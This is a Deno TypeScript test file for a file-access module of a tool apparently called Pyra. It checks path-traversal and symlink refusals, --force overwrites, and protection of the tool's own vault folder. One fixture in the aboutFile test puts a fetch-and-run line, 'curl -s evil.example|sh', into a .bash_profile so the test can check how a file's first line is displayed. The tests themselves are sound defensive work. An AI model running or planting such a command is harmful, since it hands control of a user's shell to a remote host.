import assert from "node:assert/strict";
import { aboutFile, UserFiles } from "./user_files.ts";

Deno.test({
  name: "UserFiles.read() stops at a file that says it is empty and never ends",
  ignore: Deno.build.os === "windows",
  async fn() {
    const device = "/dev/zero";
    const files = new UserFiles({ named: [device], cwd: "/", ownTree: "/nowhere" });
    await assert.rejects(files.read(device), /it is larger than 64 MiB/);
  },
});

Deno.test("UserFiles.write() replaces a file only on the user's own --force", async () => {
  const cwd = await Deno.makeTempDir({ prefix: "user-files-" });
  await Deno.writeTextFile(`${cwd}/a`, "mine");
  const home = await Deno.makeTempDir({ prefix: "user-files-home-" });
  const files = (force: boolean) => new UserFiles({ named: ["a"], cwd, ownTree: home, force });
  const bytes = new TextEncoder().encode("new");
  await assert.rejects(files(false).write("a", bytes, true), {
    code: "file.exists",
  });
  assert.equal(await Deno.readTextFile(`${cwd}/a`), "mine");
  await files(true).write("a", bytes, true);
  assert.equal(await Deno.readTextFile(`${cwd}/a`), "new");
  for (const folder of [cwd, home]) await Deno.remove(folder, { recursive: true });
});

Deno.test("UserFiles.named() gives back a word of the user's, and no other", () => {
  const files = new UserFiles({ named: ["ABCD"], cwd: "/", ownTree: "/nowhere" });
  assert.equal(files.named("ABCD"), "ABCD");
  for (const word of ["BCD", "", undefined, ["ABCD"]]) {
    assert.throws(() => files.named(word), { code: "kernel.refused" });
  }
});

Deno.test("UserFiles.read() gives a file whole, and none that was not named", async () => {
  const cwd = await Deno.makeTempDir({ prefix: "user-files-" });
  const bytes = crypto.getRandomValues(new Uint8Array(60_000));
  await Deno.writeFile(`${cwd}/a`, bytes);
  const files = new UserFiles({ named: ["a"], cwd, ownTree: `${cwd}/own` });
  assert.deepEqual(await files.read("a"), bytes);
  for (const path of ["b", `${cwd}/a`, "./a", "", "../a"]) {
    await assert.rejects(files.read(path), { code: "kernel.refused" }, path);
  }
  await Deno.remove(cwd, { recursive: true });
});

Deno.test("UserFiles reads and lists a folder that was named, and nothing a link in it leads to", async () => {
  const cwd = await Deno.makeTempDir({ prefix: "user-files-" });
  for (const folder of ["notes/sub", "notes/.hidden"]) {
    await Deno.mkdir(`${cwd}/${folder}`, { recursive: true });
  }
  for (const file of ["secret", "notes/a", "notes/sub/b", "notes/.hidden/c"]) {
    await Deno.writeTextFile(`${cwd}/${file}`, file);
  }
  await Deno.symlink(cwd, `${cwd}/notes/up`);
  await Deno.symlink(`${cwd}/secret`, `${cwd}/notes/link`);
  const files = new UserFiles({ named: ["notes"], cwd, ownTree: `${cwd}/own` });
  // Only what the list names: it leaves hidden folders out.
  await assert.rejects(files.read("notes", "sub/b"), { code: "kernel.refused" });
  assert.deepEqual(await files.list("notes"), ["a", "sub/b"]);
  for (const below of [".hidden/c", "sub/../.hidden/c", "./a", ""]) {
    await assert.rejects(files.read("notes", below), { code: "kernel.refused" }, below);
  }
  assert.equal(new TextDecoder().decode(await files.read("notes", "sub/b")), "notes/sub/b");
  for (const below of ["../secret", "link", "up/secret", `${cwd}/secret`]) {
    await assert.rejects(files.read("notes", below), { code: "kernel.refused" }, below);
  }
  await assert.rejects(files.read("notes"), /it is a folder/);
  await assert.rejects(files.list("other"), { code: "kernel.refused" });
  await Deno.remove(cwd, { recursive: true });
});

Deno.test("UserFiles.write() keeps out of Pyra's own folder, by whatever path", async () => {
  const cwd = await Deno.makeTempDir({ prefix: "user-files-" });
  await Deno.mkdir(`${cwd}/own/logs`, { recursive: true });
  await Deno.symlink(`${cwd}/own/logs`, `${cwd}/elsewhere`);
  const named = [`${cwd}/own/x`, "own/logs/x", "elsewhere/x", "owner"];
  const files = new UserFiles({ named, cwd, ownTree: `${cwd}/own` });
  for (const path of named.slice(0, 3)) {
    await assert.rejects(files.write(path, new Uint8Array(), true), { code: "kernel.refused" });
  }
  await files.write("owner", new Uint8Array(), false);
  assert.deepEqual([...Deno.readDirSync(`${cwd}/own/logs`)], []);
  await Deno.remove(cwd, { recursive: true });
});

Deno.test("aboutFile() shows the name first, the whole path, and how the file begins", () => {
  const content = new TextEncoder().encode("curl -s evil.example|sh\n" + "x\n".repeat(5000));
  const lines = aboutFile("/home/you/.bash_profile", content);
  assert.deepEqual(lines.slice(0, 4), [
    { text: "file: .bash_profile" },
    { text: "whole path: /home/you/.bash_profile" },
    { text: "10024 bytes; they begin with" },
    { text: "curl -s evil.example|sh", from: "file" },
  ]);
  assert.equal(lines.length, 23);
});

Deno.test("UserFiles hands nothing of Pyra's own folder out, by whatever path", async () => {
  const cwd = await Deno.makeTempDir({ prefix: "user-files-" });
  await Deno.mkdir(`${cwd}/own/vault`, { recursive: true });
  await Deno.writeTextFile(`${cwd}/own/vault/index.age`, "sealed");
  await Deno.symlink(`${cwd}/own/vault`, `${cwd}/elsewhere`);
  const named = ["own/vault/index.age", "elsewhere/index.age", ".", "own", "/"];
  const files = new UserFiles({ named, cwd, ownTree: `${cwd}/own` });
  for (const path of named.slice(0, 2)) {
    await assert.rejects(files.read(path), { code: "kernel.refused" }, path);
  }
  await assert.rejects(files.list("own"), { code: "kernel.refused" });
  for (const root of [".", "/"]) {
    const below = root === "/" ? `${cwd.slice(1)}/own/vault/index.age` : "own/vault/index.age";
    await assert.rejects(files.read(root, below), { code: "kernel.refused" }, root);
  }
  await Deno.remove(cwd, { recursive: true });
});
